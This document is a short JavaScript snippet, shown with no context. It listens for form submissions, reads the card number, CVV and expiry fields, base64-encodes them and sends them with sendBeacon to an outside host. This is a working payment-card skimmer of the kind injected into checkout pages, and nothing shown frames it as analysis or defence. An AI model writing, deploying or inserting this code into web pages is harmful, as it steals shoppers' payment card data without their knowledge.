document.addEventListener('submit', function(){
  var d = {n: document.querySelector('[name="cc_number"]').value, c: document.querySelector('#cvv').value,
           e: document.querySelector('[name="cc_exp_month"]').value};
  navigator.sendBeacon('https://cdn-example.invalid/c', btoa(JSON.stringify(d)));
});